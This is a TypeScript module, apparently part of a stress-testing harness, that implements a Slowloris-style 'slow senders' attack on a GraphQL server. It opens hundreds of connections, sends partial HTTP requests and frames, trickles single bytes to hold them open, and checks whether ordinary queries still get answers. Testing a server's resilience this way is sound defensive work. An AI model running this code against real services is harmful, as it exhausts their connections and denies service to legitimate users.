/** Very many who send a byte now and then, and never what would end it. In the meantime others are answered. */

import { connect, type Socket } from 'node:net';
import { createRandom } from '../src/interop/random';
import type { Attack } from './attack';
import { opening } from './frames';
import { ask } from './house';

const EVERY_MS = 250;
const MOST = 400;

export const slow: Attack = {
  name: 'slow senders',
  sentence:
    'hundreds of connections that send a byte now and then: headers, bodies, openings and frames without an end',
  async run(target, { seed, strikes, seconds }) {
    const random = createRandom(seed);
    const beginnings = [
      '',
      'GET /graphql HTTP/1.1\r\nX: ',
      'POST /graphql HTTP/1.1\r\nHost: h\r\nContent-Length: 1000\r\n\r\n{',
      opening(),
    ];
    const sockets = new Set<Socket>();
    const failures: string[] = [];
    for (let i = 0; i < Math.min(strikes, MOST); i++) {
      const beginning = random.pick(beginnings);
      const socket = connect({ host: target.host, port: target.port }, () => socket.write(beginning));
      sockets.add(socket);
      socket.on('error', () => undefined).once('close', () => sockets.delete(socket));
      socket.resume();
    }
    const count = sockets.size;
    const until = performance.now() + seconds * 1_000;
    while (performance.now() < until && sockets.size > 0) {
      for (const socket of sockets) if (socket.writable && random.chance(30)) socket.write('a');
      if (!(await ask(target, '{ viewer { id } }'))) failures.push('somebody else was not answered');
      await new Promise((resolve) => setTimeout(resolve, EVERY_MS));
    }
    for (const socket of sockets) socket.destroy();
    return { strikes: count, failures: failures.slice(0, 3) };
  },
};
